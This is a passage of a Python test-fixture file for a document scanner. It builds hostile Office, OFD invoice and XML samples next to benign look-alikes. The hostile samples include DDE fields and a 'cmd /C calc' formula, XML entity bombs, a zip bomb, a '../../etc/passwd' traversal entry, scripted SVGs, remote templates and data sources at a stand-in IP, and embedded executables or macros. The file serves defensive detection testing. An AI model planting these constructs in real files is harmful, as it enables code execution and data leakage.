    "document type in UTF-16": ("a.docx", lambda: word(**{"word/a.xml": wide(DOCTYPE)})),
    "document type late": ("a.docx", lambda: word(**{"word/a.xml": late(DOCTYPE)})),
    "document type under another ending": (
        "a.docx",
        lambda: word(
            **{"[Content_Types].xml": types(**{"word/a.bin": "a/b+xml"}), "word/a.bin": DOCTYPE}
        ),
    ),
    "billion laughs": ("a.docx", lambda: word(**{"word/a.xml": LAUGHS})),
    "macro type": (
        "a.docx",
        lambda: word(**{"[Content_Types].xml": types(**{"word/x.xml": MACRO})}),
    ),
    "macro type in UTF-16": (
        "a.docx",
        lambda: word(**{"[Content_Types].xml": wide(types(**{"word/x.xml": MACRO}))}),
    ),
    "macros": ("a.docx", lambda: word(**{"word/vbaProject.bin": OLE})),
    "macros under another name": ("a.docx", lambda: word(**{"word/media/image1.bin": OLE})),
    "macros by relation": (
        "a.docx",
        lambda: word(
            **{
                WORD_RELATIONS: relation("x", "p.dat")
                .replace(
                    b"http://schemas.openxmlformats.org/officeDocument",
                    b"http://schemas.microsoft.com/office",
                )
                .replace(b'/x"', b'/vbaProject"'),
                "word/p.dat": b"x",
            }
        ),
    ),
    "object": ("a.docx", lambda: word(**{"word/embeddings/oleObject1.bin": OLE})),
    "object by its name": ("a.docx", lambda: word(**{"word/embeddings/oleObject1.bin": b"x"})),
    "object by relation": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: relation("oleObject", "o.dat"), "word/o.dat": b"x"}),
    ),
    "control": ("a.docx", lambda: word(**{"word/activeX/activeX1.xml": b"<a/>"})),
    "program inside": ("a.docx", lambda: word(**{"word/embeddings/a.exe": b"MZ"})),
    "program as a picture": ("a.docx", lambda: word(**{"word/media/image1.png": b"MZ\x90"})),
    "DDE": ("a.docx", lambda: word(**{"word/document.xml": field_of(" DDEAUTO c calc ")})),
    "DDE in pieces": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(" DD", "EAU", "TO c calc")}),
    ),
    "DDE without a beginning": (
        "a.docx",
        lambda: word(**{"word/document.xml": b"<w:d><w:instrText>DDEAUTO c</w:instrText></w:d>"}),
    ),
    "DDE in small letters": (
        "a.docx",
        lambda: word(**{"word/footer1.xml": field_of('dde "c:\\\\x" a', simple=True)}),
    ),
    "DDE made of numbers": ("a.docx", lambda: word(**{"word/document.xml": MADE_UP})),
    "DDE made up in its middle": (
        "a.docx",
        lambda: word(**{"word/document.xml": nested_field(" DD", "QUOTE 69", "AUTO c calc")}),
    ),
    "text from elsewhere": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(f'INCLUDETEXT "{WEB}"')}),
    ),
    "DDE of a sheet": (
        "a.xlsx",
        lambda: office_file(
            "xlsx",
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="c"/></externalLink>'
            },
        ),
    ),
    "DDE in a formula": (
        "a.xlsx",
        lambda: office_file(
            "xlsx", {"xl/worksheets/sheet1.xml": b"<c><f>cmd|' /C calc'!A0</f></c>"}
        ),
    ),
    **{
        f"formula {said}": (
            "a.xlsx",
            lambda said=said: sheet(**{"worksheets/sheet1": f"<c><f>{said}</f></c>".encode()}),
        )
        for said in FORMULAS
    },
    "formula of a name": (
        "a.xlsx",
        lambda: sheet(workbook2=b"<a><definedName>RTD(1)</definedName></a>"),
    ),
    "pivot table from elsewhere": (
        "a.xlsx",
        lambda: sheet(pivot=pivot("1", 'type="external" connectionId="1">')),
    ),
    "pivot table from another workbook": (
        "a.xlsx",
        lambda: sheet(pivot=pivot(" true ", 'type="worksheet"><worksheetSource r:id="r1"/>')),
    ),
    "query when opened": ("a.xlsx", lambda: sheet(q=b"<queryTable refreshOnLoad='1'/>")),
    "data when opened, after a blank": (
        "a.xlsx",
        lambda: sheet(c=b"<a><connection refreshOnLoad=' 1'/></a>"),
    ),
    "data every minute": ("a.xlsx", lambda: sheet(c=b"<a><connection interval='1'/></a>")),
    "data in real time": (
        "a.xlsx",
        lambda: sheet(v=b"<volTypes><volType type='realTimeData'/></volTypes>"),
    ),
    "names from a share": (
        "a.docx",
        lambda: merging("Provider=X;Data Source=\\\\203.0.113.7\\s\\a.mdb;Mode=Read"),
    ),
    "names from a server": (
        "a.docx",
        lambda: merging("Provider=SQLOLEDB;Data Source=203.0.113.7;Initial Catalog=a"),
    ),
    "names from the web": ("a.docx", lambda: merging(f"Provider=X;Data Source={WEB}")),
    "add-in that shows itself": (
        "a.docx",
        lambda: word(**{"_rels/.rels": relation("webextensiontaskpanes", "word/t.xml")}),
    ),
    "add-in from a share": (
        "a.docx",
        lambda: word(
            **{"word/w.xml": b"<we:a><we:reference store='//x/s' storeType='FileSystem'/></we:a>"}
        ),
    ),
    "EPS picture": ("a.docx", lambda: word(**{"word/media/a.eps": b"%!PS-Adobe-3.0 EPSF"})),
    "EPS picture under another name": (
        "a.docx",
        lambda: word(**{"word/media/a.png": b"\n%!PS-Adobe-3.0 EPSF"}),
    ),
    "EPS picture of DOS": (
        "a.xlsx",
        lambda: office_file("xlsx", {"xl/media/a.emf": b"\xc5\xd0\xd3\xc6" + bytes(30)}),
    ),
    "program behind": ("a.docx", lambda: office_file() + b"MZ\x90" + bytes(90)),
    "web page behind": ("a.xlsx", lambda: office_file("xlsx") + b"<script>x()</script>"),
    "archive behind": ("a.docx", lambda: office_file() + zipped({"a.js": b"x"})),
    "document behind a document": ("a.docx", lambda: office_file() + office_file()),
    "archive as a picture": (
        "a.docx",
        lambda: word(**{"word/media/image1.png": zipped({"a.txt": b"x"})}),
    ),
    "document with macros as data": (
        "a.docx",
        lambda: word(**{"word/a.dat": word(**{"word/vbaProject.bin": b"x"})}),
    ),
    "PDF with a script as data": (
        "a.docx",
        lambda: word(**{"word/a.dat": pdf_with(opens_with(SCRIPT))}),
    ),
    **{
        f"file {name} inside": (
            "a.docx",
            lambda name=name: word(**{f"word/embeddings/{name}": b"x"}),
        )
        for name in ("a.xlsb", "a.iqy", "a.slk")
    },
    **{
        f"drawing with {said}": (
            "a.docx",
            lambda said=said: word(**{"word/media/a.svg": f"<svg>{said}</svg>".encode()}),
        )
        for said in (
            "<script>x()</script>",
            "<g onload='x()'/>",
            f"<image xlink:href='{WEB}'/>",
            "<use href='//203.0.113.7/a'/>",
        )
    },
    "macro sheet": (
        "a.xlsx",
        lambda: office_file("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}),
    ),
    "data when opened": (
        "a.xlsx",
        lambda: office_file(
            "xlsx", {"xl/connections.xml": b'<a><connection id="1" refreshOnLoad="1"/></a>'}
        ),
    ),
    "bomb": ("a.docx", lambda: word(**{"word/big.xml": b"0" * 30_000_000})),
    "20,000 entries": ("a.docx", lambda: word(**{f"{n}.xml": b"" for n in range(1_001)})),
    "out of its folder": ("a.docx", lambda: word(**{"../../etc/passwd": b"x"})),
    "with a password": (
        "a.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99),
    ),
    "sheet with a password": (
        "a.xlsx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99),
    ),
    "old Word": ("a.docx", lambda: OLE),
    "signed with a template from the web": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: TEMPLATE, "_xmlsignatures/sig1.xml": b"<a/>"}),
    ),
}


def chart() -> bytes:
    """A document with a chart and the workbook behind it, as Word saves it."""
    return word(
        **{
            WORD_RELATIONS: relation("chart", "charts/chart1.xml"),
            "word/charts/chart1.xml": b"<c:chart xmlns:c='c'/>",
            "word/charts/_rels/chart1.xml.rels": relation(
                "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": office_file("xlsx"),
        }
    )


def online() -> bytes:
    """What Word in the browser saves: the main part has another name."""
    main = f"{MAIN}.wordprocessingml.document.main+xml"
    listed = f'<Types><Override PartName="/word/document22.xml" ContentType="{main}"/></Types>'
    return zipped({"[Content_Types].xml": listed.encode(), "word/document22.xml": b"<d/>"})


OWN_TEMPLATE = outside("attachedTemplate", "file:///C:\\Users\\li\\Templates\\Normal.dotm")
ORDINARY_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "document": ("a.docx", office_file),
    **{
        f"formula {said}": (
            "a.xlsx",
            lambda said=said: sheet(**{"worksheets/sheet1": f"<c><f>{said}</f></c>".encode()}),
        )
        for said in PLAIN_FORMULAS
    },
    "pivot table of a sheet": (
        "a.xlsx",
        lambda: sheet(
            pivot=pivot("1", 'type="worksheet"><worksheetSource ref="A1:B9" sheet="S"/>')
        ),
    ),
    "query": ("a.xlsx", lambda: sheet(q=b"<queryTable refreshOnLoad='0'/>")),
    "names from one's own disk": (
        "a.docx",
        lambda: merging("Provider=X;Data Source=C:\\my names\\a.xlsx;Mode=Read"),
    ),
    "padding behind": ("a.docx", lambda: office_file() + bytes(60)),
    "drawing": (
        "a.docx",
        lambda: word(
            **{"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0'/></svg>"}
        ),
    ),
    "photograph": ("a.docx", lambda: word(**{"word/media/image1.jpeg": jpeg_file()})),
    "TIFF with its place": ("a.docx", lambda: word(**{"word/media/a.tiff": place()[6:]})),
    "signed with a photograph and its place": (
        "a.docx",
        lambda: word(
            **{
                "word/media/a.jpg": jpeg_file(exif=place()),
                "_xmlsignatures/sig1.xml": b"<a/>",
            }
        ),
    ),
    "sheet": ("a.xlsx", lambda: office_file("xlsx")),
    "with a chart": ("a.docx", chart),
    "saved in the browser": ("a.docx", online),
    "template on one's own disk": ("a.docx", lambda: word(**{WORD_RELATIONS: OWN_TEMPLATE})),
    "linked logo": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: outside("image", "file:///D:\\logo.png")}),
    ),
    "link to the web": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("hyperlink")})),
    "table of contents": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(' TOC \\o "1-3" ')}),
    ),
    "contents that link": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(' HYPERLINK \\l "_Toc12" \\h ')}),
    ),
    "link to the web by field": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(f' HYPERLINK "{WEB}" \\o "Note: a/b" ')}),
    ),
    "part by field, on one's own disk": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(' RD "C:\\\\my own\\\\b.docx" \\f ')}),
    ),
    "page number counted": (
        "a.docx",
        lambda: word(**{"word/document.xml": nested_field("=", "PAGE", "-1")}),
    ),
    "picture from a web page": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of(f' INCLUDEPICTURE "{WEB}" \\d')}),
    ),
    "icon": ("a.docx", lambda: word(**{"word/media/image1.svg": b"<!DOCTYPE svg><svg/>"})),
    "note with tags left open": (
        "a.xlsx",
        lambda: office_file("xlsx", {"xl/drawings/vmlDrawing1.vml": b"<xml><v:shape><br></xml>"}),
    ),
    "prefixes nobody declared": ("a.docx", lambda: word(**{"word/a.xml": b"<w:p><w:r/></w:p>"})),
    "UTF-16": ("a.docx", lambda: word(**{"word/document.xml": wide(b"<d>text</d>")})),
    "GBK": ("a.docx", lambda: word(**{"word/document.xml": written_in("GBK", "<d>珠海</d>")})),
    "sheet in GB2312": (
        "a.xlsx",
        lambda: office_file(
            "xlsx", {"xl/worksheets/sheet1.xml": written_in("gb2312", "<c><v>珠海</v></c>")}
        ),
    ),
    "relations in GB18030": (
        "a.docx",
        lambda: word(
            **{WORD_RELATIONS: written_in("GB18030", f"<!--㐀𠮷-->{outside('hyperlink').decode()}")}
        ),
    ),
    "other workbook on one's own disk": (
        "a.xlsx",
        lambda: office_file(
            "xlsx",
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": outside(
                    "externalLinkPath", "file:///D:\\2025.xlsx"
                )
            },
        ),
    ),
}


# --- invoices ---


def ofd(**parts: bytes) -> bytes:
    root = b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD"/>'
    return zipped(
        {"OFD.xml": root, "Doc_0/Document.xml": b"<ofd:Document xmlns:ofd='o'/>", **parts}
    )


def acts(event: str) -> bytes:
    said = f'<a:Action Event="{event}"><a:URI URI="{WEB}"/></a:Action>'
    return f'<a:Document xmlns:a="http://www.ofdspec.org/2016">{said}</a:Document>'.encode()


HOSTILE_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "OFD that opens an address": ("a.ofd", lambda: ofd(**{"Doc_0/Document.xml": acts("DO")})),
    "OFD with a program": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.exe": b"MZ"})),
    "OFD with a document type": ("a.ofd", lambda: ofd(**{"Doc_0/x.xml": DOCTYPE})),
    **{
        f"OFD with {what}": ("a.ofd", lambda made=made: ofd(**{"Doc_0/Attachs/a.dat": made()}))
        for what, made in {
            "a document with macros": lambda: word(**{"word/vbaProject.bin": OLE}),
            "a document with a template": lambda: word(**{WORD_RELATIONS: TEMPLATE}),
            "an archive": lambda: zipped({"a.txt": b"x"}),
            "a script in a PDF": lambda: pdf_with(opens_with(SCRIPT)),
            "a locked PDF": lambda: pdf_with(
                lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="u")
            ),
            "EPS": lambda: b"%!PS-Adobe-3.0 EPSF",
        }.items()
    },
    "OFD with a program behind": ("a.ofd", lambda: ofd() + b"MZ" + bytes(90)),
    "OFD with a link to a program": (
        "a.ofd",
        lambda: ofd(
            **{
                "Doc_0/Document.xml": acts("CLICK").replace(
                    WEB.encode(), b"file:///c:/windows/system32/calc.exe"
                )
            }
        ),
    ),
    "OFD with a link to a share": (
        "a.ofd",
        lambda: ofd(**{"Doc_0/a.xml": acts("CLICK").replace(WEB.encode(), b" \\\\x\\s")}),
    ),
    "archive called OFD": ("a.ofd", lambda: zipped({"a.txt": b"x"})),
    "XML with a document type": ("a.xml", lambda: DOCTYPE),
    "XML in UTF-16 with a document type": ("a.xml", lambda: wide(DOCTYPE)),
    "XML with laughs": ("a.xml", lambda: LAUGHS),
    "XML that is a web page": (
        "a.xml",
        lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>',
    ),
    "XML with a style": ("a.xml", lambda: b'<?xml-stylesheet href="http://x/a.xsl"?><a/>'),
    "XML in GBK with a document type": (
        "a.xml",
        lambda: written_in("GBK", f"<!--珠海-->{DOCTYPE.decode()}"),
    ),
    "XML in GBK that breaks off in a letter": (
        "a.xml",
        lambda: written_in("GBK", "<EInvoice>珠海")[:-1] + b"</EInvoice>",
    ),
    "XML in an encoding that is no text": (
        "a.xml",
        lambda: b'<?xml version="1.0" encoding="rot13"?><a/>',
    ),
    "XML that breaks off": ("a.xml", lambda: b"<EInvoice><Head>"),
}
ORDINARY_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "OFD": ("a.ofd", ofd),
    "OFD with a plain PDF": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.pdf": written_page()})),
    "OFD with a plain document": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.dat": word()})),
    "OFD with a photograph and its place": (
        "a.ofd",
        lambda: ofd(**{"Doc_0/Res/a.jpg": jpeg_file(exif=place())}),
    ),
    "OFD with a link": ("a.ofd", lambda: ofd(**{"Doc_0/Document.xml": acts("CLICK")})),
    "XML": ("a.xml", "<EInvoice><Header>发票</Header></EInvoice>".encode),
    "XML with a mark": ("a.xml", lambda: b"\xef\xbb\xbf<?xml version='1.0'?><EInvoice/>"),
    "XML in UTF-16": ("a.xml", lambda: wide(b"<EInvoice/>")),
    **{
        f"XML in {encoding}": (
            "a.xml",
            lambda encoding=encoding: written_in(encoding, "<EInvoice>珠海發票</EInvoice>"),
        )
        for encoding in ("GBK", "gb18030", "Big5", "cp936", "Shift_JIS")
    },
    "XML in GB2312": ("a.xml", lambda: written_in("GB2312", "<EInvoice>珠海发票</EInvoice>")),
    "XML with a mark that outranks what it declares": (
        "a.xml",
        lambda: (
            b"\xef\xbb\xbf"
            + '<?xml version="1.0" encoding="GBK"?><EInvoice>珠海</EInvoice>'.encode()
        ),
    ),
    "XML in GBK of more than 1 MiB": (
        "a.xml",
        lambda: written_in("GBK", f"<EInvoice>x{_many_words()}</EInvoice>"),
    ),
}

HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    **{f"PDF: {name}": ("a.pdf", made) for name, made in HOSTILE_PDFS.items()},
    **{f"photo: {name}": made for name, made in HOSTILE_PHOTOS.items()},
    **{f"office: {name}": made for name, made in HOSTILE_OFFICE.items()},
    **{f"invoice: {name}": made for name, made in HOSTILE_INVOICES.items()},
}
ORDINARY: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    **{f"PDF: {name}": ("a.pdf", made) for name, made in ORDINARY_PDFS.items()},
    **{f"photo: {name}": made for name, made in ORDINARY_PHOTOS.items()},
    **{f"office: {name}": made for name, made in ORDINARY_OFFICE.items()},
    **{f"invoice: {name}": made for name, made in ORDINARY_INVOICES.items()},
}
